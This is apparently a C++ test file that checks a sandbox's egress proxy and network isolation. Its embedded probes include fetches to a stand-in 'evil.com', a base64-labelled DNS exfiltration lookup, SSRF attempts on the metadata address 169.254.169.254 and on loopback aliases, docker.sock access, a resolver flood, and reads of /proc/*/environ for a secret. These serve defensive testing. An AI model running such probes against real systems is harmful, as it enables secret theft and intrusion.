// The network of real sandboxes, from inside. Servers and names are the test's own: nothing is dialled.
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <filesystem>

#include "egress/proxy_harness.h"
#include "sandbox/native/cgroup.h"
#include "sandbox/native/native.h"
#include "sandbox/native/scratch_roots_test.h"
#include "sandbox/proxy_endpoint.h"
#include "sandbox/test_loop.h"

namespace atl::sandbox::native {
namespace {

using egress::Attempt;

class NetworkTest : public testing::Test, protected TestLoop {
 protected:
  void SetUp() override {
    NativeOptions options;
    options.spawner.cgroup_parent = "atoll-test-" + random_word(10);
    options.spawner.roots = scratch_roots();
    auto provider = start(context().get_executor(), std::move(options));
    ASSERT_TRUE(provider) << provider.error().message();
    provider_ = std::move(*provider);
    world_.names["good.com"] = {*egress::Address::parse("1.1.1.1")};
    world_.names["evil.com"] = {*egress::Address::parse("6.6.6.6")};
    world_.names["metadata.corp"] = {*egress::Address::parse("169.254.169.254")};
    world_.answer = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi";
  }
  void TearDown() override {
    sandbox_.reset();
    if (provider_) {
      EXPECT_TRUE(run(provider_->shut_down()));
    }
  }

  static std::shared_ptr<const egress::Rules> rules(const egress::RuleTexts& texts) {
    return std::make_shared<const egress::Rules>(
        egress::Rules::compile(texts, egress::InternalAddresses::all_opened(nullptr)).value());
  }
  Sandbox& open(const egress::RuleTexts& texts, egress::Authority* authority = nullptr) {
    Spec spec;
    spec.network = Network::egress;
    spec.limits.processes_max = 20;
    sandbox_ = create(*provider_, spec);
    egress::Outside outside;
    outside.resolver = &world_;
    outside.connector = &world_;
    outside.authority = authority;
    outside.secrets = secrets_;
    proxy_ =
        std::make_shared<egress::Proxy>(context().get_executor(), rules(texts), outside,
                                        [this](const Attempt& attempt) { attempts_.push_back(attempt); });
    auto opened = run(sandbox_->open_network(proxy_));
    EXPECT_TRUE(opened) << opened.error().message();
    return *sandbox_;
  }
  Ran python(std::string code, std::string user = "") {
    ProcessSpec spec;
    spec.argv = {"python3", "-c", std::move(code)};
    spec.user = std::move(user);
    spec.wall_time = std::chrono::seconds(60);
    return finish(*sandbox_, std::move(spec));
  }
  bool saw(std::string_view host, bool allowed) const {
    return std::ranges::any_of(attempts_, [&](const Attempt& attempt) {
      return attempt.host == host && attempt.allowed == allowed;
    });
  }

  egress::FakeOutside world_{context()};
  std::shared_ptr<egress::FakeSecrets> secrets_ = std::make_shared<egress::FakeSecrets>();
  std::vector<Attempt> attempts_;
  std::unique_ptr<Provider> provider_;
  std::shared_ptr<egress::Proxy> proxy_;
  std::unique_ptr<Sandbox> sandbox_;
};

constexpr const char* kFetch =
    "import urllib.request, urllib.error, sys\n"
    "def fetch(url):\n"
    "  try: return urllib.request.urlopen(url, timeout=30).read().decode()\n"
    "  except urllib.error.HTTPError as e: return f'{e.code} {e.read().decode().strip()}'\n"
    "  except Exception as e: return f'{type(e).__name__}: {e}'\n";

// Goes through the proxy for every host.
constexpr const char* kFetchAny =
    "import os\n"
    "os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''\n";

constexpr const char* kLookUp =
    "import socket\n"
    "def look_up(name):\n"
    "  try: return socket.getaddrinfo(name, 80)[0][4][0]\n"
    "  except socket.gaierror: return 'none'\n";

TEST_F(NetworkTest, IsClosedUntilItIsOpened) {
  Spec spec;
  sandbox_ = create(*provider_, spec);
  const auto says = [&](const std::string& value) {
    return std::ranges::any_of(sandbox_->isolation().walls, [&](const Wall& wall) {
      return wall.name == "network" && wall.value.starts_with(value);
    });
  };
  EXPECT_TRUE(says("none"));
  EXPECT_EQ(shell(*sandbox_, "env | grep -ic _proxy").out, "0\n");
  EXPECT_EQ(python("import socket\n"
                   "for name, port in (('good.com', 80), ('1.1.1.1', 443), ('127.0.0.1', 3128)):\n"
                   "  try: socket.create_connection((name, port), timeout=20); print('open')\n"
                   "  except OSError as e: print('closed')\n")
                .out,
            "closed\nclosed\nclosed\n");
  open({.allow = {"good.com"}});
  EXPECT_TRUE(says("egress"));
}

TEST_F(NetworkTest, ProgramsFindTheProxyByThemselves) {
  open({.allow = {"good.com"}});
  EXPECT_EQ(python(std::string(kFetch) + "print(fetch('http://good.com/path'))").out, "hi\n");
  EXPECT_TRUE(world_.received.starts_with("GET /path HTTP/1.1\r\nHost: good.com\r\n")) << world_.received;
  EXPECT_EQ(world_.dialled, std::vector<std::string>{"1.1.1.1:80"});
  const Ran refused = python(std::string(kFetch) + "print(fetch('http://evil.com/'))");
  EXPECT_EQ(refused.out, "403 evil.com:80 is not allowed: no rule allows it\n");
  EXPECT_TRUE(saw("good.com", true));
  EXPECT_TRUE(saw("evil.com", false));
  // Root inside is nobody special. An ordinary user may have no second id to give it.
  if (::geteuid() != 0) return;
  EXPECT_EQ(python(std::string(kFetch) + "print(fetch('http://evil.com/')[:3])", "root").out, "403\n");
}

TEST_F(NetworkTest, InterpretersThatRanBeforeFindItToo) {
  Spec spec;
  sandbox_ = create(*provider_, spec);
  auto interpreter = run(sandbox_->create_interpreter(Language::python, "/home/user"));
  ASSERT_TRUE(interpreter) << interpreter.error().message();
  egress::Outside outside;
  outside.resolver = &world_;
  outside.connector = &world_;
  proxy_ = std::make_shared<egress::Proxy>(context().get_executor(), rules({.allow = {"good.com"}}), outside,
                                           nullptr);
  ASSERT_TRUE(run(sandbox_->open_network(proxy_)));
  ExecutionSpec execution;
  execution.code = std::string(kFetch) + "print(fetch('http://good.com/'))";
  const auto collect = [](std::shared_ptr<Interpreter> in, ExecutionSpec what) -> Task<std::string> {
    CO_TRY(const auto stream, co_await in->execute(std::move(what)));
    std::string out;
    for (;;) {
      CO_TRY(ExecutionEvent event, co_await stream->next());
      if (const auto* output = std::get_if<Output>(&event)) out += output->bytes;
      if (std::holds_alternative<ExecutionDone>(event)) co_return out;
    }
  };
  EXPECT_EQ(run(collect(*interpreter, execution)).value_or("failed"), "hi\n");
}

TEST_F(NetworkTest, NamesAreAnsweredIfTheyAreAllowed) {
  open({.allow = {"good.com", "*.wild.com"}});
  EXPECT_EQ(python(std::string(kLookUp) + "print(look_up('good.com'))").out, "1.1.1.1\n");
  EXPECT_EQ(python(std::string(kLookUp) +
                   "for name in ('evil.com', 'c2VjcmV0.evil.com', 'metadata.corp'): print(look_up(name))")
                .out,
            "none\nnone\nnone\n");
  EXPECT_EQ(std::ranges::count(world_.resolved, "good.com"), static_cast<long>(world_.resolved.size()));
  EXPECT_TRUE(saw("c2vjcmv0.evil.com", false));
  // With glibc's own idea of which families a machine has, as getent and many programs ask.
  const Ran getent =
      shell(*sandbox_,
            "getent ahostsv4 good.com | head -1; getent hosts good.com; getent ahosts good.com | head "
            "-1; getent ahostsv4 localhost | head -1; getent ahostsv4 evil.com; echo $?");
  EXPECT_EQ(getent.out,
            "1.1.1.1         STREAM good.com\n1.1.1.1         good.com\n1.1.1.1         STREAM good.com\n"
            "127.0.0.1       STREAM localhost\n2\n")
      << getent.err;
  // The same over TCP.
  EXPECT_EQ(
      python(
          "import socket, struct\n"
          "q = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x04good\\x03com\\x00\\x00\\x01\\x00\\x01'\n"
          "s = socket.create_connection(('127.0.0.1', 53), timeout=30)\n"
          "s.sendall(struct.pack('>H', len(q)) + q)\n"
          "a = b''\n"
          "while len(a) < 2 or len(a) < 2 + struct.unpack('>H', a[:2])[0]: a += s.recv(4096)\n"
          "print(socket.inet_ntoa(a[-4:]))\n")
          .out,
      "1.1.1.1\n");
}

TEST_F(NetworkTest, AFloodOfQuestionsHarmsNobody) {
  open({.allow = {"good.com"}});
  EXPECT_EQ(python("import socket\n"
                   "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                   "for i in range(20000):\n"
                   "  try: s.sendto(b'x' * (i % 1400), ('127.0.0.1', 53))\n"
                   "  except OSError: pass\n"
                   "print('done')\n")
                .out,
            "done\n");
  EXPECT_EQ(python(std::string(kLookUp) + "print(look_up('good.com'))").out, "1.1.1.1\n");
}

TEST_F(NetworkTest, ThereIsNoOtherRoute) {
  open({.allow = {"*"}});
  const Ran ran = python(
      "import socket\n"
      "def says(what):\n"
      "  try: what(); return 'OPEN'\n"
      "  except OSError as e: return e.strerror or str(e)\n"
      "def udp(to): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', to)\n"
      "print(says(lambda: socket.create_connection(('1.1.1.1', 443), 20)))\n"
      "print(says(lambda: udp(('1.1.1.1', 443))))\n"
      "print(says(lambda: udp(('8.8.8.8', 53))))\n"
      "print(says(lambda: socket.create_connection(('169.254.169.254', 80), 20)))\n"
      "print(says(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2606:4700::1', "
      "443))))\n"
      "print(says(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))\n"
      "print(says(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)))\n"
      "print(open('/proc/net/dev').read().count('\\n') - 2)\n");
  EXPECT_EQ(ran.out.find("OPEN"), std::string::npos) << ran.out;
  EXPECT_TRUE(ran.out.ends_with("\n1\n")) << ran.out << ran.err;
}

TEST_F(NetworkTest, TheHostItselfIsOutOfReach) {
  open({.allow = {"*"}});
  const Ran ran =
      python(std::string(kFetch) + kFetchAny +
             "for host in ('127.0.0.1', '127.0.0.2', '0x7f.1', '2130706433', '[::1]', '0.0.0.0',\n"
             "             '[::ffff:169.254.169.254]', '169.254.169.254', 'metadata.corp', '10.0.0.1'):\n"
             "  print(fetch(f'http://{host}:8000/')[:3])\n");
  EXPECT_EQ(ran.out, "403\n403\n403\n403\n403\n403\n403\n403\n403\n403\n") << ran.err;
  EXPECT_TRUE(world_.dialled.empty());
}

// Neither by a network, nor by the machine's abstract sockets, nor through the way out.
TEST_F(NetworkTest, NeighboursAreOutOfReach) {
  open({.allow = {"*"}});
  auto neighbour = std::move(sandbox_);
  ProcessSpec server;
  server.argv = {"python3", "-c",
                 "import socket, time\n"
                 "tcp = socket.create_server(('0.0.0.0', 8000))\n"
                 "unix = socket.socket(socket.AF_UNIX); unix.bind('\\0atoll-neighbour'); unix.listen()\n"
                 "print('up', flush=True); time.sleep(600)\n"};
  auto process = run(neighbour->start(server));
  ASSERT_TRUE(process);
  const auto up = (*process)->attach(Replay::recent);
  ASSERT_TRUE(run(up->next()));
  os::Fd host(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  const std::string name = "atoll-test-host-" + random_word(8);
  sockaddr_un address{.sun_family = AF_UNIX, .sun_path = {}};
  std::memcpy(address.sun_path + 1, name.data(), name.size());
  const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  ASSERT_EQ(::bind(host.get(), reinterpret_cast<sockaddr*>(&address), size), 0);
  ASSERT_EQ(::listen(host.get(), 1), 0);

  open({.allow = {"*"}});
  const Ran ran = python(std::string(kFetch) + kFetchAny +
                         "import socket\n"
                         "def closed(family, to):\n"
                         "  try: socket.socket(family).connect(to); return 'OPEN'\n"
                         "  except OSError: return 'closed'\n"
                         "print(closed(socket.AF_INET, ('127.0.0.1', 8000)))\n"
                         "print(closed(socket.AF_UNIX, '\\0atoll-neighbour'))\n"
                         "print(closed(socket.AF_UNIX, '\\0" +
                         name +
                         "'))\n"
                         "print(closed(socket.AF_UNIX, '/var/run/docker.sock'))\n"
                         "print(open('/proc/net/unix').read().count('atoll-'))\n"
                         "print(fetch('http://127.0.1.1:8000/')[:3], fetch('http://sandbox:8000/')[:3])\n");
  EXPECT_EQ(ran.out, "closed\nclosed\nclosed\nclosed\n0\n403 502\n") << ran.err;
  EXPECT_TRUE(world_.dialled.empty());
}

TEST_F(NetworkTest, ARedirectIsARequestLikeAnyOther) {
  open({.allow = {"good.com"}});
  world_.answer =
      "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/\r\nContent-Length: 0\r\n\r\n";
  EXPECT_EQ(python(std::string(kFetch) + "print(fetch('http://good.com/')[:3])").out, "403\n");
  EXPECT_EQ(world_.dialled, std::vector<std::string>{"1.1.1.1:80"});
}

TEST_F(NetworkTest, NewRulesCutWhatIsOpen) {
  open({.allow = {"good.com:9000"}});
  ProcessSpec spec;
  spec.argv = {"python3", "-c",
               "import socket\n"
               "s = socket.create_connection(('127.0.0.1', 3128), 60)\n"
               "s.sendall(b'CONNECT good.com:9000 HTTP/1.1\\r\\n\\r\\n')\n"
               "print(s.recv(100).split()[1].decode(), flush=True)\n"
               "try: print(len(s.recv(100)))\n"
               "except ConnectionResetError: print(0)\n"};
  spec.wall_time = std::chrono::seconds(60);
  auto process = run(sandbox_->start(spec));
  ASSERT_TRUE(process);
  const auto stream = (*process)->attach(Replay::recent);
  const auto read_until = [](ProcessStream& from, std::string& out, std::string mark) -> Task<Outcome> {
    for (;;) {
      CO_TRY(ProcessEvent event, co_await from.next());
      if (const auto* outcome = std::get_if<Outcome>(&event)) co_return *outcome;
      out += std::get<Output>(event).bytes;
      if (!mark.empty() && out.find(mark) != std::string::npos) co_return Outcome{};
    }
  };
  std::string out;
  ASSERT_TRUE(run(read_until(*stream, out, "200\n")));
  EXPECT_EQ(proxy_->open_connections(), 1U);
  proxy_->set_rules(rules({.allow = {"other.com"}}));
  ASSERT_TRUE(run(read_until(*stream, out, "")));
  EXPECT_EQ(out, "200\n0\n");
  EXPECT_EQ(proxy_->open_connections(), 0U);
}

TEST_F(NetworkTest, HeadersAreSetInsideTlsAndTheSecretStaysOut) {
  secrets_->values["token"] = "s3cret-token";
  auto authority = egress::Authority::create().value();
  open({.allow = {"good.com", "evil.com"},
        .inject = {{"good.com", {{"Authorization", "Bearer ${secrets.token}"}}}}},
       authority.get());
  ASSERT_TRUE(run(sandbox_->trust(authority->certificate_pem())));
  world_.answer = "HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\ns3cret-token";
  EXPECT_EQ(python(std::string(kFetch) + "print(fetch('https://good.com/x'))").out, "************\n");
  EXPECT_NE(world_.received.find("Authorization: Bearer s3cret-token\r\n"), std::string::npos);
  EXPECT_EQ(world_.verified, std::vector<std::string>{"good.com"});
  // Other names are not intercepted: their TLS is their own.
  world_.received.clear();
  python(std::string(kFetch) + "fetch('https://evil.com/x')");
  EXPECT_TRUE(world_.received.starts_with("\x16\x03")) << world_.received.substr(0, 40);
  EXPECT_EQ(world_.received.find("s3cret"), std::string::npos);
  // Nothing inside knows it, and the authority's key is not there either.
  EXPECT_NE(shell(*sandbox_, "env; cat /proc/*/environ; grep -r s3cret-token /run /etc /tmp /home")
                .out.find("PATH"),
            std::string::npos);
  EXPECT_EQ(shell(*sandbox_, "env; cat /proc/*/environ; grep -rl s3cret-tok[e]n /run /etc /tmp /home")
                .out.find("s3cret"),
            std::string::npos);
  EXPECT_EQ(shell(*sandbox_, "grep -l 'PRIVATE KEY' /run/atoll/*").out, "");
  // No snapshot holds whom it trusts.
  const std::string target = "/tmp/atoll-network-test-" + random_word(8);
  ASSERT_TRUE(run(sandbox_->snapshot(target)));
  EXPECT_NE(::access((target + "/root").c_str(), F_OK), -1);
  EXPECT_EQ(::access((target + "/root/run/atoll").c_str(), F_OK), -1);
  EXPECT_EQ(::access((target + "/root/etc/resolv.conf").c_str(), F_OK), -1);
  std::filesystem::remove_all(target);
}

TEST_F(NetworkTest, TheWayOutIsNoServerForTheOutside) {
  open({.allow = {"*"}});
  for (const std::uint16_t port : {kProxyPort, kResolverPort}) {
    auto connected = run(sandbox_->connect(port));
    ASSERT_FALSE(connected);
    EXPECT_EQ(connected.error().code(), Code::permission_denied);
  }
  EXPECT_EQ(run(sandbox_->listening_ports()).value(), std::vector<std::uint16_t>{});
}

}  // namespace
}  // namespace atl::sandbox::native
